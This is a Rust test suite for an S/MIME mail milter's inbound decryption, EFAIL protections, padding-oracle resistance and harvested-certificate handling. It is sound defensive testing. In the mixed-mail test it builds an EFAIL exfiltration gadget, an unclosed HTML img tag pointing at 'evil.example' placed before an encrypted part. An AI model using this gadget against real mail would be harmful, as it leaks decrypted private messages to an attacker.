//! Inbound decryption and certificate harvesting through the test mode (the
//! milter's code path): messages encrypted by openssl and gpgsm, damaged
//! ones, Thunderbird's encrypted samples, and the admin command.

mod common;
use common::*;
use std::path::{Path, PathBuf};
use std::process::Command;

const AUTHSERV: &str = "mx.decrypt.test";

fn config(dir: &Path, harvest: &Path, extra: &str) -> PathBuf {
    config_with(dir, harvest, "", extra)
}

/// `config` with more `[decrypt]` settings.
fn config_with(dir: &Path, harvest: &Path, decrypt: &str, extra: &str) -> PathBuf {
    write_config(
        dir,
        &format!("authserv_id = \"{AUTHSERV}\""),
        &format!(
            "[decrypt]\nenabled = true\n{decrypt}\n[harvest]\ndir = \"{}\"\n[verify]\ntrust_anchors = \"{}\"\n{extra}\n{}",
            harvest.display(),
            pki().path("root.crt").display(),
            pki().key_table()
        ),
    )
}

const ENTITY: &str =
    "Content-Type: text/plain; charset=us-ascii\r\n\r\nThe secret plan.\r\nSecond line.\r\n";

/// A message whose body is the base64 of this CMS DER.
fn enveloped_message(der: &[u8], smime_type: &str, subject: &str) -> Vec<u8> {
    let b64 = run(Command::new("sh")
        .arg("-c")
        .arg("base64 -w 64")
        .stdin(pipe_input(der)))
    .stdout;
    let mut m = format!(
        "From: Sender <sender@example.net>\nTo: carol@example.com\nSubject: {subject}\nMIME-Version: 1.0\n\
         Content-Type: application/pkcs7-mime; smime-type={smime_type}; name=\"smime.p7m\"\n\
         Content-Transfer-Encoding: base64\nContent-Disposition: attachment; filename=\"smime.p7m\"\n\n"
    )
    .into_bytes();
    m.extend_from_slice(&b64);
    m
}

fn pipe_input(data: &[u8]) -> std::process::Stdio {
    let d = tempdir().keep();
    let p = d.join("stdin");
    std::fs::write(&p, data).unwrap();
    std::process::Stdio::from(std::fs::File::open(p).unwrap())
}

/// Header (unfolded, as a reader sees it) and body.
fn split(msg: &[u8]) -> (String, String) {
    let s = String::from_utf8_lossy(msg).replace("\r\n", "\n");
    let (h, b) = s.split_once("\n\n").unwrap_or((&s, ""));
    (h.replace("\n ", " ").replace("\n\t", "\t"), b.to_string())
}

fn inbound(cfg: &Path, input: &[u8]) -> TestRun {
    test_mode(cfg, &["--inbound", "--rcpt", "carol@example.com"], input)
}

#[test]
fn messages_encrypted_by_openssl_and_gpgsm_are_decrypted() {
    let d = tempdir();
    let harvest = tempdir();
    // CBC plaintext that no signature covers is released only on request.
    let cfg = config_with(
        d.path(),
        harvest.path(),
        "release_unauthenticated = true",
        "",
    );
    let gpgsm = Gpgsm::new();
    let cases = [
        (
            "aes-128-cbc",
            openssl_encrypt("carol", ENTITY.as_bytes(), "-aes-128-cbc"),
            "enveloped-data",
        ),
        (
            "aes-256-cbc",
            openssl_encrypt("carol", ENTITY.as_bytes(), "-aes-256-cbc"),
            "enveloped-data",
        ),
        (
            "aes-256-gcm",
            openssl_encrypt("carol", ENTITY.as_bytes(), "-aes-256-gcm"),
            "authEnveloped-data",
        ),
        (
            "gpgsm",
            gpgsm.encrypt_to("carol", ENTITY.as_bytes()),
            "enveloped-data",
        ),
        // RecipientInfo by subjectKeyIdentifier instead of issuer and serial.
        (
            "keyid",
            openssl_encrypt_with("carol", ENTITY.as_bytes(), "-aes-256-cbc", &["-keyid"]),
            "enveloped-data",
        ),
    ];
    for (name, der, smime_type) in cases {
        let r = inbound(&cfg, &enveloped_message(&der, smime_type, name));
        assert_eq!(r.code, 0, "{name}: {}", r.stderr);
        assert!(
            r.stderr.contains("action=decrypted") && r.stderr.contains("key=carol@example.com"),
            "{name}: {}",
            r.stderr
        );
        let (head, body) = split(&r.stdout);
        assert!(
            head.starts_with(&format!(
                "X-SMIME-Decrypted: yes; by={AUTHSERV}; key=carol@example.com; type={smime_type}"
            )),
            "{name}:\n{head}"
        );
        assert!(
            head.contains("Content-Type: text/plain; charset=us-ascii"),
            "{name}:\n{head}"
        );
        assert!(
            !head.contains("pkcs7-mime") && !head.contains("Content-Disposition"),
            "{name}:\n{head}"
        );
        assert!(
            head.contains("Subject: ") && head.contains("From: Sender"),
            "other headers stay"
        );
        assert_eq!(body, "The secret plan.\nSecond line.\n", "{name}");
    }
}

#[test]
fn unauthenticated_cbc_plaintext_is_withheld_by_default() {
    let d = tempdir();
    let harvest = tempdir();
    let cfg = config(d.path(), harvest.path(), "");
    let gpgsm = Gpgsm::new();
    for (name, der, smime_type, released) in [
        (
            "aes-256-cbc",
            openssl_encrypt("carol", ENTITY.as_bytes(), "-aes-256-cbc"),
            "enveloped-data",
            false,
        ),
        (
            "gpgsm",
            gpgsm.encrypt_to("carol", ENTITY.as_bytes()),
            "enveloped-data",
            false,
        ),
        (
            "aes-256-gcm",
            openssl_encrypt("carol", ENTITY.as_bytes(), "-aes-256-gcm"),
            "authEnveloped-data",
            true,
        ),
    ] {
        let input = enveloped_message(&der, smime_type, name);
        let r = inbound(&cfg, &input);
        assert_eq!(r.code, 0, "{name}: {}", r.stderr);
        let (head, body) = split(&r.stdout);
        let out = String::from_utf8_lossy(&r.stdout);
        if released {
            assert!(
                head.starts_with("X-SMIME-Decrypted: yes"),
                "{name}:\n{head}"
            );
            assert!(out.contains("The secret plan."), "{name}");
        } else {
            assert!(
                head.starts_with(&format!(
                    "X-SMIME-Decrypted: no (unauthenticated CBC plaintext withheld, EFAIL); by={AUTHSERV}"
                )),
                "{name}:\n{head}"
            );
            assert_eq!(body, split(&input).1, "{name}: still encrypted");
            assert!(head.contains("application/pkcs7-mime"), "{name}");
            assert!(!out.contains("secret plan"), "{name}: no plaintext");
        }
    }
}

#[test]
fn signed_then_encrypted_is_decrypted_and_the_inner_signature_passes() {
    let d = tempdir();
    let harvest = tempdir();
    let cfg = config(d.path(), harvest.path(), "");
    let signed = openssl_sign("dave", "sha256", ENTITY.as_bytes());
    let der = openssl_encrypt("carol", &signed, "-aes-256-cbc");
    let msg = String::from_utf8_lossy(&enveloped_message(
        &der,
        "enveloped-data",
        "signed then encrypted",
    ))
    .replace("Sender <sender@example.net>", "Dave <dave@example.net>");
    let r = inbound(&cfg, msg.as_bytes());
    let (head, _) = split(&r.stdout);
    assert!(head.contains(&format!("Authentication-Results: {AUTHSERV}; smime=pass (decrypted at gateway) body.smime-identifier=dave@example.net")), "{head}\n{}", r.stderr);
    assert!(head.contains("X-SMIME-Decrypted: yes"), "{head}");
    assert!(
        head.contains("Content-Type: multipart/signed"),
        "the signed entity is delivered: {head}"
    );
    // The delivered message still verifies with openssl.
    openssl_verify(&r.stdout).unwrap();
}

/// Flips one byte of the DER at `from_end` bytes before its end.
fn flipped(der: &[u8], from_end: usize) -> Vec<u8> {
    let mut d = der.to_vec();
    let i = d.len() - from_end;
    d[i] ^= 0x01;
    d
}

#[test]
fn damaged_messages_fail_without_partial_plaintext() {
    let d = tempdir();
    let harvest = tempdir();
    let cfg = config(d.path(), harvest.path(), "");
    let cbc = openssl_encrypt("carol", ENTITY.as_bytes(), "-aes-256-cbc");
    let gcm = openssl_encrypt("carol", ENTITY.as_bytes(), "-aes-256-gcm");
    // CBC: the last byte of the next-to-last block decides the padding.
    // GCM: the tag is the last element of AuthEnvelopedData.
    for (name, der, t) in [
        ("bad padding", flipped(&cbc, 17), "enveloped-data"),
        ("wrong tag", flipped(&gcm, 1), "authEnveloped-data"),
    ] {
        let input = enveloped_message(&der, t, name);
        let r = inbound(&cfg, &input);
        assert_eq!(r.code, 0, "{name}: {}", r.stderr);
        assert!(
            r.stderr.contains("decryption failed"),
            "{name}: {}",
            r.stderr
        );
        let (head, body) = split(&r.stdout);
        // The same words for every failure: no padding oracle.
        assert!(
            head.starts_with(&format!("X-SMIME-Decrypted: failed; by={AUTHSERV}\n")),
            "{name}:\n{head}"
        );
        assert_eq!(body, split(&input).1, "{name}: body unchanged");
        assert!(
            !String::from_utf8_lossy(&r.stdout).contains("secret plan"),
            "{name}: no plaintext"
        );
    }
    // decrypt_failed = tempfail keeps it queued instead.
    let cfg = config(
        d.path(),
        harvest.path(),
        "[actions]\ndecrypt_failed = \"tempfail\"\n",
    );
    for (der, t) in [
        (flipped(&gcm, 1), "authEnveloped-data"),
        (flipped(&cbc, 17), "enveloped-data"),
    ] {
        let r = inbound(&cfg, &enveloped_message(&der, t, "t"));
        assert_eq!(r.code, 75, "{}", r.stderr);
    }
}

#[test]
fn mail_to_unknown_keys_and_mixed_mail_pass_unchanged() {
    let d = tempdir();
    let harvest = tempdir();
    let cfg = config(d.path(), harvest.path(), "");
    // To eve, whose key we do not hold.
    let input = enveloped_message(
        &openssl_encrypt("eve", ENTITY.as_bytes(), "-aes-256-cbc"),
        "enveloped-data",
        "not ours",
    );
    let r = inbound(&cfg, &input);
    assert_eq!(r.code, 0);
    assert_eq!(
        String::from_utf8_lossy(&r.stdout).replace("\r\n", "\n"),
        String::from_utf8_lossy(&input).replace("\r\n", "\n"),
        "unchanged"
    );
    assert!(
        r.stderr.contains("encrypted to keys we do not hold"),
        "{}",
        r.stderr
    );

    // An encrypted part beside a plaintext part: never decrypted (EFAIL).
    let enc = String::from_utf8_lossy(&enveloped_message(
        &openssl_encrypt("carol", ENTITY.as_bytes(), "-aes-256-cbc"),
        "enveloped-data",
        "x",
    ))
    .into_owned();
    let enc_part = &enc[enc.find("Content-Type: application/pkcs7-mime").unwrap()..];
    let mixed = format!(
        "From: x@example.net\nSubject: mixed\nMIME-Version: 1.0\nContent-Type: multipart/mixed; boundary=\"m\"\n\n--m\nContent-Type: text/html\n\n<img src=\"http://evil.example/?\n--m\n{enc_part}\n--m--\n"
    );
    let r = inbound(&cfg, mixed.as_bytes());
    assert_eq!(r.code, 0);
    let (head, body) = split(&r.stdout);
    assert!(
        head.starts_with(
            "X-SMIME-Decrypted: no (encrypted part mixed with plaintext parts, not decrypted)"
        ),
        "{head}"
    );
    assert_eq!(body, split(mixed.as_bytes()).1);
    assert!(!String::from_utf8_lossy(&r.stdout).contains("secret plan"));

    // A forged X-SMIME-Decrypted on plaintext mail is removed.
    let forged = b"X-SMIME-Decrypted: yes; by=mx.decrypt.test\nFrom: x@example.net\nSubject: plain\nContent-Type: multipart/mixed; boundary=q\n\n--q\n\nplain\n--q--\n";
    let r = inbound(&cfg, forged);
    assert!(
        !String::from_utf8_lossy(&r.stdout).contains("X-SMIME-Decrypted"),
        "{}",
        String::from_utf8_lossy(&r.stdout)
    );
}

#[test]
fn harvested_certificates_encrypt_replies_and_can_be_managed() {
    let d = tempdir();
    let harvest = tempdir();
    let cfg = config(
        d.path(),
        harvest.path(),
        "[encrypt]\ndefault_policy = \"opportunistic\"\ncipher = \"aes-256-gcm\"\n",
    );
    // Before: no certificate for dave.
    let out = test_mode(
        &cfg,
        &["--outbound", "--rcpt", "dave@example.net"],
        b"From: alice@example.com\nSubject: before\n\nhi\n",
    );
    assert!(
        out.stderr
            .contains("not encrypted: no usable certificate for <dave@example.net>"),
        "{}",
        out.stderr
    );

    // Dave writes to us, signed (openssl announces CBC ciphers only).
    let signed = openssl_sign("dave", "sha384", ENTITY.as_bytes());
    let mut msg =
        b"From: Dave <dave@example.net>\nTo: alice@example.com\nSubject: hello\n".to_vec();
    msg.extend_from_slice(&signed);
    // The test mode changes no state unless asked.
    let r = test_mode(&cfg, &["--inbound", "--rcpt", "alice@example.com"], &msg);
    assert!(
        r.stderr.contains("smime=pass signer=dave@example.net") && !r.stderr.contains("harvested="),
        "{}",
        r.stderr
    );
    assert_eq!(
        std::fs::read_dir(harvest.path()).unwrap().count(),
        0,
        "nothing written"
    );
    let r = test_mode(
        &cfg,
        &["--inbound", "--harvest", "--rcpt", "alice@example.com"],
        &msg,
    );
    assert!(
        r.stderr
            .contains("smime=pass signer=dave@example.net harvested=dave@example.net"),
        "{}",
        r.stderr
    );
    assert!(harvest.path().join("dave@example.net.pem").exists());

    // Now a reply is encrypted to the harvested certificate, with a cipher
    // dave announced (aes-256-gcm is configured, but he listed CBC only).
    let out = test_mode(
        &cfg,
        &["--outbound", "--rcpt", "dave@example.net"],
        b"From: alice@example.com\nSubject: reply\n\nthe reply\n",
    );
    assert!(
        out.stderr.contains("action=signed+encrypted"),
        "{}",
        out.stderr
    );
    let (head, _) = split(&out.stdout);
    assert!(
        head.contains("smime-type=enveloped-data"),
        "CBC chosen from dave's capabilities: {head}"
    );
    let inner = openssl_decrypt(&out.stdout, "dave").unwrap();
    assert!(String::from_utf8_lossy(&openssl_verify(&inner).unwrap()).contains("the reply"));

    // Outbound mail is never harvested from; an older certificate does not
    // replace a newer one (the same one is not rewritten).
    let before = std::fs::metadata(harvest.path().join("dave@example.net.pem"))
        .unwrap()
        .modified()
        .unwrap();
    let r = test_mode(
        &cfg,
        &["--inbound", "--harvest", "--rcpt", "alice@example.com"],
        &msg,
    );
    assert!(!r.stderr.contains("harvested="), "{}", r.stderr);
    assert_eq!(
        std::fs::metadata(harvest.path().join("dave@example.net.pem"))
            .unwrap()
            .modified()
            .unwrap(),
        before
    );

    // The admin command lists, shows and removes it.
    let certs = |args: &[&str]| {
        run(Command::new(bin())
            .arg("certs")
            .arg("-c")
            .arg(&cfg)
            .args(args))
    };
    let list = certs(&["list"]);
    let text = String::from_utf8_lossy(&list.stdout);
    assert!(
        text.contains("dave@example.net  [harvested]")
            && text.contains("serial:")
            && text.contains("issuer:    CN=Test Intermediate CA"),
        "{text}"
    );
    let show = certs(&["show", "dave@example.net"]);
    let text = String::from_utf8_lossy(&show.stdout);
    assert!(
        text.contains("[harvested]  usable")
            && text.contains("encryption to dave@example.net uses serial"),
        "{text}"
    );
    assert_eq!(
        certs(&["remove", "dave@example.net"]).status.code(),
        Some(0)
    );
    assert_eq!(
        certs(&["remove", "dave@example.net"]).status.code(),
        Some(1)
    );
    assert_eq!(certs(&["show", "dave@example.net"]).status.code(), Some(1));
    let out = test_mode(
        &cfg,
        &["--outbound", "--rcpt", "dave@example.net"],
        b"From: alice@example.com\nSubject: after\n\nhi\n",
    );
    assert!(out.stderr.contains("not encrypted"), "{}", out.stderr);
}

#[test]
fn thunderbird_encrypted_samples_get_the_expected_results() {
    let Some(dir) = interop_corpus() else {
        return;
    };
    let d = tempdir();
    let pass = d.path().join("nss.pass");
    std::fs::write(&pass, "nss\n").unwrap();
    set_mode(&pass, 0o600);
    // Bob's key, as a local recipient's; the .p12 is world-readable in the
    // corpus, so allow_insecure_key_files.
    let top = format!("authserv_id = \"{AUTHSERV}\"\nallow_insecure_key_files = true");
    let tables = format!(
        "[harvest]\nenabled = false\n[verify]\ntrust_anchors = \"{}\"\n\
         [[signing.key]]\nsender = \"bob@example.com\"\npkcs12 = \"{}\"\npassphrase_file = \"{}\"\n",
        dir.join("smime/TestCA.pem").display(),
        dir.join("smime/Bob.p12").display(),
        pass.display()
    );
    // The manifest's verdicts are those of a reader who decrypts whatever
    // arrives: CBC plaintext released too.
    let cfg = write_config(
        d.path(),
        &top,
        &format!("[decrypt]\nenabled = true\nrelease_unauthenticated = true\n{tables}"),
    );
    let text = std::fs::read_to_string(dir.join("MANIFEST.tsv")).unwrap();
    let (mut checked, mut failures) = (0, Vec::new());
    for line in text.lines().skip(1) {
        let f: Vec<&str> = line.split('\t').collect();
        if f[2] != "yes" {
            continue;
        }
        let (file, expected) = (f[0], f[1]);
        let r = test_mode(
            &cfg,
            &["--inbound", "--rcpt", "bob@example.com"],
            &std::fs::read(dir.join(file)).unwrap(),
        );
        let (head, _) = split(&r.stdout);
        let got = head
            .lines()
            .find(|l| l.starts_with(&format!("Authentication-Results: {AUTHSERV};")))
            .and_then(|l| l.split("smime=").nth(1))
            .map(|s| s.split([' ', ';']).next().unwrap_or("").to_string())
            .unwrap_or_else(|| "none".into());
        if r.code != 0 || got != expected {
            failures.push(format!(
                "{file}: expected {expected}, got {got} ({})",
                r.stderr.trim()
            ));
        }
        checked += 1;
    }
    assert!(checked >= 40, "only {checked} encrypted samples");
    assert!(
        failures.is_empty(),
        "{} of {checked} differ:\n{}",
        failures.len(),
        failures.join("\n")
    );

    // By default (EFAIL): plaintext is released only when GCM or a passing
    // inner signature vouches for it; everything else stays encrypted.
    let cfg = write_config(
        d.path(),
        &top,
        &format!("[decrypt]\nenabled = true\n{tables}"),
    );
    let (mut released, mut withheld) = (0, 0);
    for line in text.lines().skip(1) {
        let f: Vec<&str> = line.split('\t').collect();
        if f[2] != "yes" {
            continue;
        }
        let input = std::fs::read(dir.join(f[0])).unwrap();
        let r = test_mode(&cfg, &["--inbound", "--rcpt", "bob@example.com"], &input);
        let (head, body) = split(&r.stdout);
        if head.contains("X-SMIME-Decrypted: yes") {
            let vouched = head.contains("type=authEnveloped-data")
                || head.contains(&format!("Authentication-Results: {AUTHSERV}; smime=pass"));
            assert!(vouched, "{}: released unauthenticated:\n{head}", f[0]);
            released += 1;
        } else {
            // Withheld, failed, an encrypted part we never decrypt, or for
            // another key: the body as it came (bare DER samples aside).
            let (in_head, in_body) = split(&input);
            if in_head.contains("Content-Type") {
                assert_eq!(body, in_body, "{}: body unchanged", f[0]);
            }
            withheld += usize::from(head.contains("withheld, EFAIL"));
        }
    }
    println!("default: {released} released, {withheld} withheld");
    assert!(
        released > 0 && withheld > 0,
        "{released} released, {withheld} withheld"
    );
}

#[test]
fn plaintext_never_reaches_a_recipient_the_message_was_not_encrypted_to() {
    let d = tempdir();
    let harvest = tempdir();
    let cfg = config(d.path(), harvest.path(), "");
    // Encrypted to carol only; alice (whose key we hold too) is added as a recipient.
    let input = enveloped_message(
        &openssl_encrypt("carol", ENTITY.as_bytes(), "-aes-256-cbc"),
        "enveloped-data",
        "replay",
    );
    let r = test_mode(
        &cfg,
        &[
            "--inbound",
            "--rcpt",
            "carol@example.com",
            "--rcpt",
            "alice@example.com",
        ],
        &input,
    );
    assert_eq!(r.code, 0);
    assert!(
        !String::from_utf8_lossy(&r.stdout).contains("secret plan"),
        "not decrypted for alice"
    );
    assert!(
        r.stderr.contains("not every recipient holds a key"),
        "{}",
        r.stderr
    );
}

#[test]
fn ec_key_agreement_is_decrypted_whatever_kdf_the_sender_chose() {
    // What clients send: OpenSSL's default SHA-1 KDF, the SHA-2 ones RFC
    // 8551 prefers, and our own output (SHA-2 matching the curve).
    let d = tempdir();
    let harvest = tempdir();
    let cfg = config_with(
        d.path(),
        harvest.path(),
        "release_unauthenticated = true",
        "",
    );
    let gcm = |who: &str, kdf: Option<&str>| {
        let input = d.path().join("entity");
        std::fs::write(&input, ENTITY).unwrap();
        let mut cmd = Command::new("openssl");
        cmd.args([
            "cms",
            "-encrypt",
            "-binary",
            "-outform",
            "DER",
            "-aes-256-gcm",
            "-in",
        ])
        .arg(&input)
        .arg("-recip")
        .arg(pki().path(&format!("{who}.crt")));
        if let Some(md) = kdf {
            cmd.args(["-keyopt", &format!("ecdh_kdf_md:{md}")]);
        }
        let out = run(&mut cmd);
        assert!(
            out.status.success(),
            "{}",
            String::from_utf8_lossy(&out.stderr)
        );
        out.stdout
    };
    for (who, rcpt, kdf, oid) in [
        ("bob", "bob@example.com", None, "sha1kdf"),
        ("bob", "bob@example.com", Some("sha256"), "sha256kdf"),
        ("dave", "dave@example.net", Some("sha384"), "sha384kdf"),
        ("dave", "dave@example.net", Some("sha512"), "sha512kdf"),
    ] {
        let der = gcm(who, kdf);
        assert!(cms_print(&der).contains(oid), "{who} {oid}");
        let msg = enveloped_message(&der, "authEnveloped-data", "ec");
        let r = test_mode(&cfg, &["--inbound", "--rcpt", rcpt], &msg);
        assert_eq!(r.code, 0, "{}", r.stderr);
        let (_, body) = split(&r.stdout);
        assert!(
            body.contains("The secret plan."),
            "{who} {oid}: {}",
            r.stderr
        );
    }
}
